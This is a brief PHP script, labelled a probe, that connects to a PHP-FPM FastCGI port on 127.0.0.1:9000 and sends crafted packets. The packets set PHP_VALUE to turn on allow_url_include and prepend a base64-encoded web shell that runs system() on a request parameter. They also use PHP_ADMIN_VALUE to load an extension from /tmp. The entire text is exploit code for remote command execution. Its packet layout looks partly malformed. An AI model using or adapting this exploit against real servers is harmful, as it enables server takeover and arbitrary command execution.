<?php
// probe (never run): the same over TCP port 9000, ini values in PHP_VALUE
$sock = fsockopen('127.0.0.1', 9000);
$env = "PHP_VALUE\nallow_url_include=On\nauto_prepend_file=data://text/plain;base64," . base64_encode('<?php system($_GET[1]);?>');
$env2 = "PHP_ADMIN_VALUE" . "extension_dir=/tmp\nextension=x.so";
$packet = pack('CCnnCC', 1, 4, 1, strlen($env), 0, 0) . $env . pack('CCnnCC', 1, 4, 1, strlen($env2), 0, 0) . $env2;
fwrite($sock, $packet);
echo fread($sock, 8192);
